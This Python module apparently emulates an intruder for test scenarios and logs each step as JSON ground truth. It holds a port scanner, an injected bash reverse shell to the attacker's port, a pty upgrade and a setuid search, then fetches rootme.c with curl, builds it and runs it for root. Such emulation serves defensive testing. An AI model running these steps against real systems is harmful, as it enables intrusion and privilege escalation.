# SPDX-License-Identifier: Apache-2.0
"""What the intruders of several scenarios do in the same way. Every step waits for the machine's answer before the
next, and is printed as one JSON line (the ground truth) once it has happened."""
import http.server
import json
import pathlib
import re
import socket
import threading
import time

import terminal

HERE = pathlib.Path(__file__).resolve().parent
WORK = "/tmp/.font-unix"
TOOLS_PORT, SHELL_PORT = 8080, 4443


def step(name, **facts):
    print(json.dumps({"step": name, "wall_ns": time.time_ns(),
                      "boot_ns": time.clock_gettime_ns(time.CLOCK_BOOTTIME), **facts}), flush=True)


class ToolServer:
    """Serves files, by path, to whoever asks; remembers who asked for what."""

    def __init__(self, address, files):
        self.asked = {path: threading.Event() for path in files}  # set when the answer is sent
        self.peer_ports = {}  # of the last that asked, by path
        outer = self

        class Answer(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = files.get(self.path)
                if body:
                    outer.peer_ports[self.path] = self.client_address[1]
                self.send_response(200 if body else 404)
                self.end_headers()
                self.wfile.write(body or b"")
                if body:
                    outer.asked[self.path].set()

            def log_message(self, *_):
                pass

        server = http.server.ThreadingHTTPServer((address, TOOLS_PORT), Answer)
        threading.Thread(target=server.serve_forever, daemon=True).start()


def scan_ports(target, ports):
    """Connects to each; prints the step, with the port that each attempt came from."""
    attempts = []
    for port in ports:
        with socket.socket() as probe:
            probe.settimeout(terminal.TIMEOUT_S)
            probe.bind(("", 0))
            source_port = probe.getsockname()[1]
            attempts.append({"port": port, "source_port": source_port, "open": probe.connect_ex((target, port)) == 0})
    step("scan_ports", open_ports=[one["port"] for one in attempts if one["open"]], attempts=attempts)


def command_for_a_shell(address):
    """What the page's hole is given: it ends the page's own command and sends a shell to us."""
    return f"bash -c 'bash -i >& /dev/tcp/{address}/{SHELL_PORT} 0>&1' >/dev/null 2>&1 & true"


def upgrade(shell, prompt):
    """Gives the reverse shell a terminal."""
    shell.expect(prompt)
    shell.line("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'")  # no terminal yet: nothing echoes
    shell.expect(prompt)
    for command in ("stty rows 40 columns 120", "export TERM=xterm"):
        shell.type(command + "\r")
        shell.expect(prompt)
    step("terminal", rows=40, columns=120)


def ask_who_we_are(shell, prompt):
    """Answers with the user's name."""
    shell.type("id\r")
    return re.search(r"uid=\d+\((\S+?)\)", shell.expect(prompt))[1]


def search_setuid(shell, prompt):
    shell.type("find / -perm -4000 -type f 2>/dev/nul\x7f\x7f\x7fnull\r")
    step("setuid_search", found="/usr/local/bin/site-backup" in shell.expect(prompt))


def become_root(shell, server, address, user_prompt, root_prompt):
    """By the web server's setuid helper, with a tool that is fetched and built there (rootme.c)."""
    shell.type(f"mkdir {WORK}; cd {WORK}\r")
    shell.expect(user_prompt)
    shell.type(f"curl -so rootme.c http://{address}:{TOOLS_PORT}/rootme.c\r")
    shell.expect(user_prompt)
    step("download", file=f"{WORK}/rootme.c", served="/rootme.c" in server.peer_ports,
         peer_port=server.peer_ports.get("/rootme.c"))
    shell.type("gcc -o rotme\x7f\x7f\x7fotme rootme.c\r")
    shell.expect(user_prompt)
    step("build", file=f"{WORK}/rootme")
    shell.type("./rootme\r")
    shell.expect(root_prompt)
    step("root", user=ask_who_we_are(shell, root_prompt))
